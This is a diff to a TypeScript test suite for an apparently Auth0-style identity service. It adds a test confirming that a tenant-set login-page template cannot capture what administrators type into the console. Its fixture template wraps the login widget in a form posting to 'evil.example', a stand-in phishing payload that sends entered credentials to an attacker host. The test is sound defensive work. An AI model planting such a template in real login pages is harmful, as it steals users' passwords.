@@ -1,9 +1,17 @@
 import { sql } from 'kysely';
 import type { TSchema } from 'typebox';
 import { afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
-import { ADMINISTRATORS, appoint, arrive, CONSOLE } from '../console/administrator.ts';
+import {
+  ADMINISTRATORS,
+  appoint,
+  arrive,
+  CONSOLE,
+  follow,
+  signIn,
+} from '../console/administrator.ts';
 import { startRegisteredApp } from '../harness/application.ts';
 import { BOOTSTRAP, DEFAULT_CONNECTION, startServer, type TestServer } from '../harness/harness.ts';
+import { plainBrowser } from '../harness/plain-browser.ts';
 
 const EMAIL = 'owner@example.com';
 const PASSWORD = 'Tulip-Canal-77-Barge';
@@ -289,6 +297,25 @@ describe('a token with every scope', () => {
       }
     }
   });
+});
+
+test('who may write the HTML of login pages does not read what administrators type there', async () => {
+  const template =
+    '<!DOCTYPE html><html><head>{%- auth0:head -%}</head><body><form action="https://evil.example/">{%- auth0:widget -%}</form></body></html>';
+  // What they may set is set only here.
+  const set = await call('PUT', '/branding/templates/universal-login', { template });
+  expect([201, 204]).toContain(set.status);
+  const partial = { login: { 'form-content-start': '<p>evil</p>' } };
+  expect((await call('PUT', '/prompts/login/partials', partial)).status).toBe(200);
+  const console_ = await signIn(server, EMAIL, 'a wrong password');
+  expect(console_.page).toContain('name="password"');
+  expect(console_.page).not.toContain('evil');
+  // At an application they count.
+  const browser = plainBrowser();
+  const start = `${app.url}/login`;
+  expect((await follow(browser, await browser.open(start), start)).page).toContain('evil.example');
+  await call('DELETE', '/branding/templates/universal-login');
+  before = await everythingOfTheirs();
 });
 
 describe('somebody without a token', () => {
